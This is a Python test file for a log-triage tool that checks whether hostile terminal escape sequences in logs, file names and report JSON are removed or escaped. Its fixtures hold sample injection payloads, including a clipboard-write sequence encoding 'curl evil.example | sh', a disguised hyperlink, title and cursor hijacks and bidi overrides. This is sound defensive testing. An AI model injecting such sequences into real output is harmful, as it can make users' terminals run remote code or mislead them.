"""Nothing a log, a file name, a report JSON or a pattern file carries may drive the terminal."""

from __future__ import annotations

import json
import re

import pytest

from triage.pipeline import analyze
from triage.render import get_renderer
from triage.report import Evidence, Finding, Report, SourceInfo
from triage.safety import json_safe, safe_report, strip_terminal, terminal_safe

# The sequences an attacker would use, 7-bit and 8-bit (C1) forms.
OSC52_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
OSC52_C1 = "\x9d52;c;ZXZpbA==\x9c"
OSC8_LINK = "\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\"
OSC8_C1 = "\x9d8;;https://evil.example/\x9cclick\x9d8;;\x9c"
TITLE = "\x1b]0;pwned title\x07"
TITLE_ST = "\x1b]2;other title\x1b\\"
CURSOR = "\x1b[2J\x1b[H\x1b[10;5H\x1b[1A\x1b[K"
CURSOR_C1 = "\x9b2J\x9b10;5H"
DCS = "\x1bP1$r0m\x1b\\"
DCS_C1 = "\x90qpayload\x9c"
RESET = "\x1bc"
BIDI = "\u202e\u2066"

HOSTILE_LINE = (
    f"2023-02-11T06:22:18.931755Z ERROR nux: {OSC52_CLIPBOARD}{OSC8_LINK}{TITLE}{CURSOR}"
    f"ENF configuration is not compatible with NPU.{OSC52_C1}{OSC8_C1}{TITLE_ST}{CURSOR_C1}{DCS}{DCS_C1}"
    f"{RESET}{BIDI}\a\b\r\x7f"
)
# What must never reach a terminal: ESC, C1 controls, C0 other than TAB/LF, DEL, bidi overrides.
UNSAFE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
PAYLOADS = ("Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==", "evil.example", "pwned title", "other title", "ZXZpbA==", "qpayload")


def _unsafe(text: str) -> list[str]:
    return sorted({repr(c) for c in UNSAFE.findall(text)})


@pytest.fixture
def hostile_log(tmp_path):
    p = tmp_path / "hostile.log"
    log = (
        "- furiosa-libnux version: 0.8.0 (rev: d9f0d7728 built at 2022-11-01T03:39:34Z)\n"
        + HOSTILE_LINE
        + "\n"
        + f"furiosa.runtime.errors.InternalError: unknown {TITLE}(native error code: 15)\n"
        + f"2023-02-11T06:22:19Z WARN nux: odd {OSC52_CLIPBOARD} warning\n"
    )
    p.write_text(log, encoding="utf-8")
    return p


@pytest.mark.parametrize("fmt", ["text", "markdown", "json", "jsonl"])
def test_hostile_log_output_has_no_control_sequences(hostile_log, fmt: str) -> None:
    report = analyze([str(hostile_log)])
    assert report.findings, "the hostile log still has a diagnosis"
    out = get_renderer(fmt)(report, color=False)
    assert not _unsafe(out)
    for payload in PAYLOADS:
        assert payload not in out, payload
    assert "ENF configuration is not compatible with NPU." in out


def test_colour_output_keeps_only_our_own_styles(hostile_log) -> None:
    out = get_renderer("text")(analyze([str(hostile_log)]), color=True)
    # rich's SGR colours are the only sequences left
    leftover = re.sub(r"\x1b\[[0-9;]*m", "", out)
    assert not _unsafe(leftover)


def _crafted_report() -> Report:
    """A report that did not come from our reader (a JSON file from elsewhere, a jsonl record)."""
    bad = f"{OSC52_CLIPBOARD}{TITLE}{CURSOR_C1}{OSC8_C1}x\ry{BIDI}"
    return Report(
        sources=[SourceInfo(name=f"run{TITLE}.log", notes=[f"note {bad}"])],
        findings=[
            Finding(
                id="crafted",
                title=f"title {bad}",
                severity="error",
                rank=1,
                why=f"why {bad}",
                evidence=[Evidence(line=1, text=f"evidence {bad}", source=f"run{TITLE}.log")],
                remediation=[f"step {bad}"],
                checklist=[f"item {bad}"],
            )
        ],
        notes=[f"report note {bad}"],
    )


@pytest.mark.parametrize("fmt", ["text", "markdown", "json", "jsonl"])
def test_reports_from_elsewhere_are_sanitised_too(fmt: str) -> None:
    out = get_renderer(fmt)(_crafted_report(), color=False)
    assert not _unsafe(out)
    if fmt in ("text", "markdown"):  # JSON keeps the data, written as \u escapes a terminal shows as text
        for payload in ("Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==", "pwned title", "evil.example"):
            assert payload not in out


def test_json_output_still_round_trips() -> None:
    report = _crafted_report()
    back = Report.model_validate_json(get_renderer("json")(report))
    assert back.findings[0].title == report.findings[0].title  # escaped, not altered
    for line in get_renderer("jsonl")(report).splitlines():
        json.loads(line)


def test_terminal_safe_escapes_what_is_left_visibly() -> None:
    assert terminal_safe("a\x07b\rc\x9bd") == "a\\x07b\\x0dc"  # \x9bd is a whole 8-bit CSI sequence
    assert terminal_safe("tab\tand\nnewline") == "tab\tand\nnewline"
    assert terminal_safe("one\ntwo", keep_newlines=False) == "one\\ntwo"
    assert terminal_safe("abc\u202edef") == "abc\\u202edef"
    assert terminal_safe("한국어 로그 ✓") == "한국어 로그 ✓"


@pytest.mark.parametrize(
    "seq", [OSC52_CLIPBOARD, OSC52_C1, OSC8_LINK, OSC8_C1, TITLE, TITLE_ST, CURSOR, CURSOR_C1, DCS, DCS_C1, RESET]
)
def test_strip_terminal_removes_whole_sequences(seq: str) -> None:
    out = strip_terminal(f"before{seq}after")
    assert out in ("beforeafter", "beforeclick hereafter", "beforeclickafter")


def test_unterminated_osc_swallows_the_rest_like_a_terminal() -> None:
    assert strip_terminal("ok \x1b]52;c;AAAA never ends") == "ok "


def test_safe_report_keeps_structure_and_clean_text() -> None:
    report = Report(findings=[Finding(id="x", title="plain title", severity="warning", rank=1)])
    assert safe_report(report) == report


def test_json_safe_only_touches_c1_and_bidi() -> None:
    assert json_safe('{"a": "x\x9by\u202e"}') == '{"a": "x\\u009by\\u202e"}'
    assert json_safe('{"a": "한국"}') == '{"a": "한국"}'


def test_cli_error_with_a_hostile_file_name_is_escaped(tmp_path, capsys) -> None:
    from triage.cli import main

    with pytest.raises(SystemExit) as exc:
        main([str(tmp_path / f"missing{TITLE}.log")])
    assert exc.value.code == 2
    err = capsys.readouterr().err
    assert "no such file" in err and not _unsafe(err) and "pwned title" not in err


def test_ticket_output_and_redaction_preview_are_terminal_safe(hostile_log, tmp_path) -> None:
    from typer.testing import CliRunner

    from triage.cli import app

    runner = CliRunner()
    out = runner.invoke(app, ["ticket", str(hostile_log), "--no-doctor"])
    assert out.exit_code in (0, 1), out.output
    assert "ENF configuration is not compatible" in out.stdout and not _unsafe(out.stdout.replace("\n", ""))
    log = tmp_path / "host.log"
    log.write_text(f"2023-02-11T06:22:18Z ERROR nux: ssh admin@10.1.2.3 failed {TITLE}{OSC52_CLIPBOARD}\n")
    out = runner.invoke(app, ["ticket", str(log), "--no-doctor", "--bundle", str(tmp_path / "t.zip"), "--preview"])
    assert "10.1.2.3" in out.output and not _unsafe(out.output.replace("\n", ""))
